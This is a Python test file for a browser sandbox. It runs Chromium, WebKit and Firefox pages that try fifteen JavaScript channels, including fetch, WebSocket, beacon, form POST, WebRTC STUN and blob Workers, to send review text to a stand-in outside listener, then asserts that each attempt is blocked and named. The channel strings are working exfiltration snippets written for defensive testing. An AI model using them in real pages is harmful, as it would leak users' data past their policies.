"""Every channel a page could use to send a review elsewhere (issue 28): a listener on another
loopback port of this machine stands in for an outside host, a harness page in each real engine
tries to reach it with the review, and the call must fail naming the address while the listener
receives nothing (TCP or UDP). In-process, one engine session per engine for the module
(BrowserHost), so each channel costs one page call.

The guard under test: the browsers run in a network namespace holding only loopback (the
listener is on the machine's loopback, which is not theirs), the Content-Security-Policy, and the
witnesses that name what was tried (CSP reports, console lines, popups, navigation, the
namespace's refusals). make test runs Chromium on every channel and WebKit on five; the rest
(Firefox's session among them) is nightly.
"""

from __future__ import annotations

import contextlib
import socket
import threading
from collections.abc import Iterator

import pytest

from runtimes.browser.driver import BrowserError, Tab
from runtimes.browser.host import BrowserHost, availability
from runtimes.browser.webkit import WORKER_REFUSED

pytestmark = pytest.mark.browser
REVIEW = "secretreview"
TARGET = "127.0.0.1:PORT"
URL = f"http://{TARGET}/collect?q=${{encodeURIComponent(text)}}"

# Each a page function of the review text, as an app's module would run it.
CHANNELS = {
    "fetch": f"(text) => {{ fetch(`{URL}`).catch(() => {{}}); return 1; }}",
    "XHR": f"(text) => {{ const x = new XMLHttpRequest(); x.open('GET', `{URL}`); x.send(); return 1; }}",
    "WebSocket": f"(text) => {{ new WebSocket(`ws://{TARGET}/ws?q=${{text}}`); return 1; }}",
    "EventSource": f"(text) => {{ new EventSource(`{URL}`); return 1; }}",
    "beacon": f"(text) => {{ navigator.sendBeacon(`{URL}`, text); return 1; }}",
    "img": f"(text) => {{ new Image().src = `{URL}`; return 1; }}",
    "script": f"(text) => {{ const s = document.createElement('script'); s.src = `{URL}`;"
    " document.head.appendChild(s); return 1; }",
    "form POST": f"""(text) => {{ const f = document.createElement('form'); f.method = 'POST';
      f.action = `http://{TARGET}/collect`; const i = document.createElement('input'); i.name = 'q';
      i.value = text; f.appendChild(i); document.body.appendChild(f); f.submit(); return 1; }}""",
    "navigation": f"(text) => {{ location.href = `{URL}`; return 1; }}",
    "window.open": f"(text) => (window.open(`{URL}`) === null ? 'no window' : 1)",
    "preconnect": f"""(text) => {{ for (const rel of ['preconnect', 'prefetch', 'preload']) {{
      const l = document.createElement('link'); l.rel = rel; l.as = 'fetch'; l.href = `{URL}`;
      document.head.appendChild(l); }} return 1; }}""",
    "dns-prefetch": """(text) => { const l = document.createElement('link'); l.rel = 'dns-prefetch';
      l.href = `//${text}.example`; document.head.appendChild(l); return 1; }""",
    "WebRTC STUN": f"""async (text) => {{ if (typeof RTCPeerConnection === 'undefined') return 'no WebRTC';
      const pc = new RTCPeerConnection({{ iceServers: [{{ urls: 'stun:{TARGET}' }}] }});
      pc.createDataChannel(text); await pc.setLocalDescription(await pc.createOffer());
      await new Promise((r) => setTimeout(r, 1500)); pc.close(); return 1; }}""",
    "Worker fetch": f"""(text) => {{ const src = `fetch('http://{TARGET}/collect?q=${{text}}').catch(() => {{}})`;
      new Worker(URL.createObjectURL(new Blob([src], {{ type: 'text/javascript' }}))); return 1; }}""",
    "Worker script": f"""(text) => {{ const src = `importScripts('http://{TARGET}/w.js?q=${{text}}')`;
      new Worker(URL.createObjectURL(new Blob([src], {{ type: 'text/javascript' }}))); return 1; }}""",
}
# Engine settings turn these off (WebRTC's own UDP, speculative connections): then no packet is
# sent, and a call that sent nothing has nothing to name (the namespace's witness saw nothing).
# MiniBrowser refuses window.open without a user gesture (it returns null).
MAY_NOT_TRY = {"preconnect", "dns-prefetch", "WebRTC STUN", "window.open"}
# WebKit refuses a worker's request under the worker's CSP but names it nowhere, so a contained
# WebKit's pages run no worker (server.py, NO_WORKER_ENGINES): the Worker itself is refused, and
# named by the page's report, before it can try anything.
REFUSED_WORKERS = {("webkit", "Worker fetch"), ("webkit", "Worker script")}
# make test: every channel in Chromium, five in WebKit (an engine launch is 10-20 s on a loaded
# 2-core machine, so Firefox's session is nightly; its channels are the same there).
IN_MAKE_TEST = {
    "chromium": set(CHANNELS),
    "webkit": {"navigation", "window.open", "preconnect", "Worker fetch", "Worker script"},
    "firefox": set(),
}


class Listener:
    """TCP and UDP on one 127.0.0.1 port of the machine, recording every byte sent to either."""

    def __init__(self) -> None:
        self.tcp = socket.create_server(("127.0.0.1", 0))
        self.port = self.tcp.getsockname()[1]
        self.udp = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
        self.udp.bind(("127.0.0.1", self.port))
        self.received = bytearray()
        self.connections = 0
        threading.Thread(target=self._accept, daemon=True).start()
        threading.Thread(target=self._datagrams, daemon=True).start()

    def _accept(self) -> None:
        while True:
            try:
                conn, _ = self.tcp.accept()
            except OSError:
                return
            self.connections += 1
            conn.settimeout(2)
            with contextlib.suppress(OSError):
                while chunk := conn.recv(65536):
                    self.received += chunk
            conn.close()

    def _datagrams(self) -> None:
        while True:
            try:
                self.received += self.udp.recv(65536)
            except OSError:
                return
            self.connections += 1

    def close(self) -> None:
        for s in (self.tcp, self.udp):
            with contextlib.suppress(OSError):
                s.shutdown(socket.SHUT_RDWR)
            s.close()


@pytest.fixture(scope="module")
def listener() -> Iterator[Listener]:
    outside = Listener()
    yield outside
    outside.close()


class Pages:
    """One harness page per engine for the module, reopened when a channel discarded it."""

    def __init__(self) -> None:
        self.host = BrowserHost.shared()
        self.tabs: dict[str, Tab] = {}

    def tab(self, engine: str) -> Tab:
        ok = availability(engine)
        if not ok.ok:
            pytest.skip(f"browser {engine} unavailable: {ok.reason}")
        tab = self.tabs.get(engine)
        if tab is None or tab.closed:
            tab = self.host.open_page("/page/tokenizer.html", "document.readyState === 'complete'", engine)
            self.tabs[engine] = tab
        return tab


@pytest.fixture(scope="module")
def pages() -> Iterator[Pages]:
    yield Pages()
    BrowserHost.shared().close()


def _cases() -> list[object]:
    out: list[object] = []
    for engine in ("chromium", "firefox", "webkit"):
        for channel in CHANNELS:
            marks = [] if channel in IN_MAKE_TEST[engine] else [pytest.mark.nightly]
            out.append(pytest.param(engine, channel, marks=marks, id=f"{engine}-{channel}"))
    return out


@pytest.mark.parametrize(("engine", "channel"), _cases())
def test_a_review_never_leaves_and_the_attempt_is_named(
    pages: Pages, listener: Listener, engine: str, channel: str
) -> None:
    tab = pages.tab(engine)
    source = CHANNELS[channel].replace("PORT", str(listener.port))
    before, connections = len(listener.received), listener.connections
    try:
        value = tab.call(source, REVIEW, timeout_s=20, settle_s=0.5)
    except BrowserError as e:
        error = str(e)
    else:
        error = ""
    assert REVIEW.encode() not in listener.received[before:], bytes(listener.received[-200:])
    assert listener.connections == connections, "something reached the stand-in outside host"
    if channel in MAY_NOT_TRY and not error:  # the engine's settings stopped it: not one packet was sent
        print(f"{engine}: {channel} sent nothing ({value}): nothing to name")
        assert value in ("no WebRTC", "no window", 1)
        return
    target = f"DNS look-up of {REVIEW}.example" if channel == "dns-prefetch" else f"127.0.0.1:{listener.port}"
    if (engine, channel) in REFUSED_WORKERS:  # the Worker was refused: it never had an address to try
        target = f"({WORKER_REFUSED})"
    assert "blocked a request off this machine" in error and target in error, error
    print(f"{engine} {channel}: {error}")


def test_a_late_report_fails_its_own_engine_not_another(pages: Pages, listener: Listener) -> None:
    """A refusal reported after its call's settle counts against the next call of the same
    engine (the report came through that engine's namespace), never against another engine."""
    late = f"(text) => {{ setTimeout(() => fetch(`{URL}`).catch(() => {{}}), 800); return 1; }}"
    chromium, webkit = pages.tab("chromium"), pages.tab("webkit")
    assert chromium.call(late.replace("PORT", str(listener.port)), REVIEW, timeout_s=20, settle_s=0.2) == 1
    wait = "() => new Promise((r) => setTimeout(() => r(2), 1500))"
    assert webkit.call(wait, None, timeout_s=20) == 2  # the other engine's call: the report is not its
    with pytest.raises(BrowserError, match=f"127.0.0.1:{listener.port}/collect"):
        chromium.call("() => 3", None, timeout_s=20)


@pytest.mark.nightly
@pytest.mark.parametrize("constructor", ["Worker", "SharedWorker"])
def test_webkit_refuses_a_served_worker_too_and_names_it(pages: Pages, constructor: str) -> None:
    """Not only blob: workers: a worker script of the page's own server is refused at construction
    in WebKit and named by its URL (the make-test cases above prove it for blob: workers)."""
    tab = pages.tab("webkit")
    with pytest.raises(BrowserError) as refused:
        tab.call(f"() => {{ new {constructor}('/page/guard.js'); return 1; }}", None, timeout_s=20, settle_s=0.5)
    assert str(refused.value) == (
        f"browser: blocked a request off this machine: {tab.origin}/page/guard.js ({WORKER_REFUSED})"
    ), refused.value
